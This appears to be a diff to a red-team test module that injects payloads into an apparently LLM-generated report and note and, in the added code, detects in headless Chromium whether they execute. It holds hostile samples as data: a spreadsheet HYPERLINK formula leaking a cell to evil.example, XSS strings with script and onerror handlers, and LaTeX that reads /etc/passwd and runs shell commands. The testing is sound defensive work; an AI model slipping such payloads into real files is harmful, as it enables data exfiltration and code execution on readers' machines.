@@ -26,7 +26,8 @@ from tests.redteam.scenarios import PYTHON, Attack, play
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
 HTML = (
     "<script>alert('ar')</script><img src=x onerror=alert(1)> [win](http://evil.example/win) "
-    "![px](http://evil.example/px.png) <http://evil.example/auto> www.evil.example"
+    "![px](http://evil.example/px.png) <http://evil.example/auto> www.evil.example "
+    "<a href='http://evil.example/a'>plotly renders links</a>"
 )
 LATEX = r"\input{/etc/passwd} \immediate\write18{touch pwned} \def\x{1} $x^2$ \end{document}"
 
@@ -158,11 +159,45 @@ def html_in_report_and_note(root: Path, kind: str) -> str | None:
         acting = acting_markdown(text, images)
         if acting:
             return f"{name}: {acting}"
-    page = (study_dir / "report" / "report.html").read_text()
-    for raw in ("<script>alert('ar')", "<img src=x onerror", "\\u003cscript\\u003ealert", "<script>alert(\\u0027ar"):
-        if raw in page:
-            return f"report.html carries {raw!r} unescaped"
+    acting = live_html(study_dir / "report" / "report.html")
+    if acting:
+        return f"report.html: {acting}"
     return foreign_latex((study_dir / "writeup" / "note.tex").read_text())
+
+
+CHROMIUM = "/usr/bin/chromium"
+# Once report.html has drawn its plots (hover texts and labels included): an element the payload made,
+# a handler it planted, a script of its own, a link or image pointing at its host.
+_LIVE = """() => [
+  ...document.querySelectorAll('[onerror], [onload]:not(body), [onmouseover], [href*="evil"], [src*="evil"]'),
+  ...[...document.querySelectorAll('a')].filter(a => (a.getAttribute('href') || a.getAttribute('xlink:href') || '')
+      .includes('evil')),
+  ...[...document.querySelectorAll('script')].filter(s => (!s.type || /javascript|module/.test(s.type))
+      && s.textContent.includes("alert(")),
+].map(e => e.outerHTML.slice(0, 100))"""
+
+
+def live_html(path: Path) -> str | None:
+    """What of the payload acts in PATH opened in headless Chromium (offline): a dialog, or _LIVE's elements."""
+    from playwright.sync_api import sync_playwright
+
+    dialogs: list[str] = []
+    with sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--headless"])
+        try:
+            page = browser.new_page()
+            page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+            page.route(
+                "**/*", lambda route: route.continue_() if route.request.url.startswith("file:") else route.abort()
+            )
+            page.goto(path.as_uri())
+            page.wait_for_function("document.querySelectorAll('.js-plotly-plot .main-svg').length >= 3")
+            found: list[str] = page.evaluate(_LIVE)
+        finally:
+            browser.close()
+    if dialogs:
+        return f"a script ran: alert({dialogs[0]!r})"
+    return f"live elements: {found[:3]}" if found else None
 
 
 # -- an LLM's prose ------------------------------------------------------------------------------------
